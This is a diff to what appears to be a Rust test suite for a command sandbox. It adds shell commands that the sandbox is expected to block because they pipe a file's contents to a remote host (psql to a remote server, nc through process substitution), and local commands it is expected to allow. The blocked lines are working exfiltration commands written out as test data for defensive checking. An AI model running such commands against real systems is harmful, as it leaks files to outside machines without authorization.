@@ -181,12 +181,20 @@ fn what_a_file_holds_is_not_fed_to_another_machine() {
             "http example.com X:@README.md",
             "rclone rcat far:x < README.md",
             "websocat ws://example.com < README.md",
+            "psql \"host=example.com\" < README.md",
+            "psql postgresql://example.com/x < README.md",
+            "cat README.md > >(nc example.com 1)",
+            "cat README.md | tee >(nc example.com 1)",
         ],
     );
     assert_allowed(
         &confined(),
         &[
             "getent hosts example.com",
+            "psql host=localhost < schema.sql",
+            "psql postgresql://localhost/x < schema.sql",
+            "make > >(tee log.txt) 2>&1",
+            "make | tee >(grep error)",
             "npm install left-pad@$(cat VERSION)",
             "go build -ldflags \"-X example.com/a/b.Version=$(cat VERSION)\" ./...",
             "docker build -t example.com/app:$(cat VERSION) .",
